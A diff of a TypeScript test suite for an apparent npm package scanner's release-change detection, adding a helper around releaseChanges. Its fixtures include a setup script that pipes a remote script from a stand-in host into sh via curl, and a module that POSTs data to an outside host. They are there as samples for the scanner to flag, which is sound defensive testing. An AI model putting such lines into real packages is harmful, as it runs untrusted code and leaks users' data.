@@ -53,6 +53,18 @@ function storedOf(version: string, analysis = noInstall): { result: PackageRespo
   };
 }
 
+/** releaseChanges as the scanner calls it: the previous version, and its scan among `stored`. */
+function changesOf(input: {
+  packument: Packument;
+  version: PackumentVersion;
+  analysis: Parameters<typeof releaseChanges>[0]['analysis'];
+  stored: Array<Parameters<typeof releaseChanges>[0]['previousScan'] & object>;
+}) {
+  const since = previousVersion(input.packument, input.version.version);
+  const previousScan = input.stored.find((s) => s.result.version === since);
+  return releaseChanges({ ...input, since, previousScan });
+}
+
 describe('previousVersion', () => {
   it('is the highest published version below, skipping pre-releases for a release', () => {
     const p = packument(manifest('1.0.0'), manifest('1.2.0'), manifest('1.3.0-beta.1'), manifest('2.0.0'));
@@ -66,7 +78,7 @@ describe('previousVersion', () => {
 describe('releaseChanges', () => {
   it('is empty with since null for a first release', () => {
     const v = manifest('1.0.0');
-    const report = releaseChanges({ packument: packument(v), version: v, analysis: noInstall, stored: [] });
+    const report = changesOf({ packument: packument(v), version: v, analysis: noInstall, stored: [] });
     expect(report.changes).toEqual({ since: null, items: [] });
     expect(report.policy).toBeUndefined();
   });
@@ -86,7 +98,7 @@ describe('releaseChanges', () => {
       dependencies: { ms: '^2.1.0', 'left-pad': '^1.3.0' },
       dist: { tarball: 'x', integrity: 'sha512-x', unpackedSize: 900_000 } as PackumentVersion['dist'],
     });
-    const report = releaseChanges({
+    const report = changesOf({
       packument: packument(before, after),
       version: after,
       analysis: noInstall,
@@ -118,7 +130,7 @@ describe('releaseChanges', () => {
       'setup.js':
         "const cp = require('child_process');\ncp.execSync('curl -s https://cdn.demo-tools.io/x.sh | sh');\n",
     });
-    const report = releaseChanges({
+    const report = changesOf({
       packument: packument(before, after),
       version: after,
       analysis,
@@ -160,7 +172,7 @@ describe('releaseChanges', () => {
       'lib/send.js':
         "const https = require('https');\nmodule.exports = (d) => https.request({ host: 'metrics.demo-tools.io', method: 'POST' }).end(d);\n",
     });
-    const report = releaseChanges({
+    const report = changesOf({
       packument: packument(before, after),
       version: after,
       analysis: now,
@@ -185,7 +197,7 @@ describe('releaseChanges', () => {
   it('reports a changed install script, without calling it new install-time behaviour', () => {
     const before = manifest('1.0.0', { scripts: { install: 'node-gyp rebuild' } });
     const after = manifest('1.0.1', { scripts: { install: 'node-gyp rebuild --release' } });
-    const report = releaseChanges({
+    const report = changesOf({
       packument: packument(before, after),
       version: after,
       analysis: noInstall,
